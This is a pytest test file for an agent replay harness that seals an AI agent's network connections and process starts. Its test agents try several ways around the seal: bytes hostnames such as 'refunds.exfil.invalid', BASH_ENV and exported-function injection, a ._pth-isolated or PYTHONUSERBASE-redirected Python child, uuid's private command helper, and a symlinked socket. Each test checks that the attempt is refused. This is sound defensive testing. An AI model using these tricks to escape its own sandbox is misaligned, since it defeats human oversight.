"""The seal on what hides behind an allowed start or a name: a name given as bytes, a shell whose
environment runs more than its line, a Python child that would not read the seal's environment (a
``._pth`` file) or runs start-up lines before it seals itself (another user base), a private helper of
the standard library's probes given another program, a link in multiprocessing's folder, and
``os.system``'s line (bytes) of an allowed command. Each is refused, named in the case, and what it
would have done never happens; the allowed form still runs."""

from __future__ import annotations

import multiprocessing.util
import os
import socket
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest

from harvester.case import AgentCase
from harvester.replay import replay
from tests.builders.backends import loopback, routes

CASE = {"id": "refund", "status": "accepted", "prompt": "Refund order A1001", "recorded": {"trajectory": []}}


def _sealed(result: Any) -> list[str]:
    return [c.detail or "" for c in result.checks if c.name == "sealed" and c.passed is False]


def refused_detail(result: Any) -> str:
    found = _sealed(result)
    assert found, f"nothing refused: {[(c.name, c.detail) for c in result.checks]}"
    return " | ".join(found)


def _replay(agent: Any, **options: Any) -> Any:
    (result,) = replay([AgentCase.model_validate(CASE)], lambda: agent, timeout=60, **options).results
    return result


@pytest.mark.parametrize("kind", [bytes, bytearray])
@pytest.mark.parametrize("how", ["connect", "sendto", "bind"])
def test_a_name_given_as_bytes_is_refused_before_its_lookup_leaves(how, kind):
    """CPython takes a host as bytes or a bytearray too, and looks it up before the event the seal checks."""
    name = kind(b"refunds.exfil.invalid")

    def agent(prompt: str) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if how == "sendto" else socket.SOCK_STREAM) as sock:
            try:
                if how == "sendto":
                    sock.sendto(b"refund", (name, 53))
                else:
                    getattr(sock, how)((name, 443 if how == "connect" else 0))
            except OSError as exc:
                return f"failed: {type(exc).__name__}"
        return "sent"

    result = _replay(agent)
    port = {"sendto": 53, "bind": 0}.get(how, 443)
    assert f"connect to refunds.exfil.invalid:{port}" in refused_detail(result)
    assert result.answer == "failed: Sealed"


def test_a_host_allowed_by_name_is_reached_by_its_name_as_bytes():
    with loopback(routes({"/": {"ok": True}})) as server:

        def agent(prompt: str) -> str:
            with socket.create_connection((b"localhost", server.port), timeout=10) as sock:
                sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
                return sock.recv(12).decode()

        result = _replay(agent, allow_hosts=[f"localhost:{server.port}"])
    assert _sealed(result) == []
    assert result.answer.startswith("HTTP/1.")


def test_os_system_of_an_allowed_command_runs_and_says_its_line_as_text(tmp_path: Path):
    """``os.system`` raises its audited event with the line as bytes: read as text, an allowed line runs."""
    mark = tmp_path / "ran"

    def agent(prompt: str) -> str:
        try:
            return f"exit {os.system(f'touch {mark}')}"
        except PermissionError:
            return "refused"

    result = _replay(agent, allow_commands=["touch"])
    assert _sealed(result) == [] and result.answer == "exit 0" and mark.exists()
    mark.unlink()
    result = _replay(agent)
    assert f"refused start touch {mark}: not in replay.allow_commands" in refused_detail(result)
    assert result.answer == "refused" and not mark.exists()


@pytest.mark.parametrize("variable", ["BASH_ENV", "BASH_FUNC_true%%"])
def test_a_shell_line_whose_environment_runs_more_than_the_line_is_refused(tmp_path: Path, variable: str):
    """bash reads ``BASH_ENV`` before its ``-c`` line, and takes a function exported in a command's place:
    the seal judged the line, so a shell given either is refused."""
    mark = tmp_path / "ran"
    script = tmp_path / "startup.sh"
    script.write_text(f"touch {mark}\n")
    value = str(script) if variable == "BASH_ENV" else f"() {{ touch {mark}; }}"

    def shell(env: dict[str, str]) -> Any:
        def agent(prompt: str) -> str:
            try:
                return f"exit {subprocess.run(['bash', '-c', 'true'], env=env, check=False).returncode}"
            except PermissionError:
                return "refused"

        return agent

    result = _replay(shell({**os.environ, variable: value}), allow_commands=["true"])
    assert f"a shell line given {variable}, which makes the shell run more than the line" in refused_detail(result)
    assert result.answer == "refused" and not mark.exists()
    result = _replay(shell(dict(os.environ)), allow_commands=["true"])
    assert _sealed(result) == [] and result.answer == "exit 0"


def _child_connects(port: int) -> str:
    return f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).close()"


def test_a_python_with_a_pth_file_beside_it_is_refused(tmp_path: Path):
    """A ``._pth`` file beside a Python makes it run isolated: it would read neither ``PYTHONPATH`` nor
    ``site``, so it would not seal itself."""
    link = tmp_path / "python3"
    link.symlink_to(sys.executable)
    stdlib = os.path.dirname(os.__file__)
    Path(f"{link}._pth").write_text(f"{stdlib}\n{stdlib}/lib-dynload\n")
    with loopback(routes({"/": {"ok": True}})) as server:

        def agent(prompt: str) -> str:
            try:
                return f"exit {subprocess.run([str(link), '-c', _child_connects(server.port)], check=False).returncode}"
            except PermissionError:
                return "refused"

        result = _replay(agent, allow_commands=["python3 -c"])
        assert server.seen == []
    assert "a Python with a ._pth file beside it runs isolated" in refused_detail(result)
    assert result.answer == "refused"


def test_a_python_given_another_user_base_is_refused(tmp_path: Path):
    """``site`` runs the ``.pth`` lines of the user's site folder before ``sitecustomize`` seals the child:
    a child pointed at another user base would run them unsealed."""
    base = tmp_path / "userbase"
    with loopback(routes({"/": {"ok": True}})) as server:
        version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
        site = base / "lib" / version / "site-packages"
        site.mkdir(parents=True)
        (site / "startup.pth").write_text(_child_connects(server.port) + "\n")

        def agent(prompt: str) -> str:
            env = {**os.environ, "PYTHONUSERBASE": str(base)}
            try:
                return f"exit {subprocess.run([sys.executable, '-c', 'pass'], env=env, check=False).returncode}"
            except PermissionError:
                return "refused"

        result = _replay(agent, allow_commands=[f"{sys.executable} -c"])
        assert server.seen == []
    assert "a Python given another PYTHONUSERBASE runs the .pth lines there before it seals itself" in (
        refused_detail(result)
    )


def test_the_standard_library_s_probes_pass_and_their_helper_given_another_program_does_not(tmp_path: Path):
    """``ctypes.util.find_library`` runs ldconfig: a probe of the machine, not an action. uuid's private
    helper given another program starts that program like any start."""
    import ctypes.util

    mark = tmp_path / "ran"

    def agent(prompt: str) -> str:
        found = ctypes.util.find_library("c")
        uuid._get_command_stdout("touch", str(mark))  # type: ignore[attr-defined]
        return f"found {found}"

    result = _replay(agent)
    (detail,) = _sealed(result)
    assert f"touch {mark}: not in replay.allow_commands" in detail and "ldconfig" not in detail
    assert result.answer.startswith("found libc") and not mark.exists()


def test_a_link_in_multiprocessing_s_folder_to_another_socket_is_refused(tmp_path: Path):
    """multiprocessing's own folder holds its forkserver's and managers' sockets; a link placed there to
    another socket is that other socket."""
    target = tmp_path / "service.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as service:
        service.bind(str(target))
        service.listen()
        link = Path(multiprocessing.util.get_temp_dir()) / "service.sock"
        link.symlink_to(target)
        try:

            def agent(prompt: str) -> str:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                    try:
                        sock.connect(str(link))
                    except PermissionError:
                        return "refused"
                return "connected"

            result = _replay(agent)
        finally:
            link.unlink()
    assert f"refused connect to unix:{link}: a local socket" in refused_detail(result)
    assert result.answer == "refused"


def test_a_refusal_in_a_span_made_inside_a_tool_span_names_the_tool():
    """A model client's request inside a tool body (OpenInference's OpenAI instrumentor makes a span of
    it) is refused naming the tool its span was made in, not that span."""
    from opentelemetry import trace

    tracer = trace.get_tracer("tests.own_loop")
    with loopback(routes({"/": {"ok": True}})) as server:

        def agent(prompt: str) -> str:
            with tracer.start_as_current_span("issue_refund", attributes={"tool.name": "issue_refund"}):
                with tracer.start_as_current_span("Response"):
                    try:
                        socket.create_connection(("127.0.0.1", server.port), timeout=5).close()
                    except PermissionError:
                        return "refused"
            return "sent"

        result = _replay(agent)
        assert server.seen == []
    assert f"refused connect to 127.0.0.1:{server.port} during issue_refund:" in refused_detail(result)
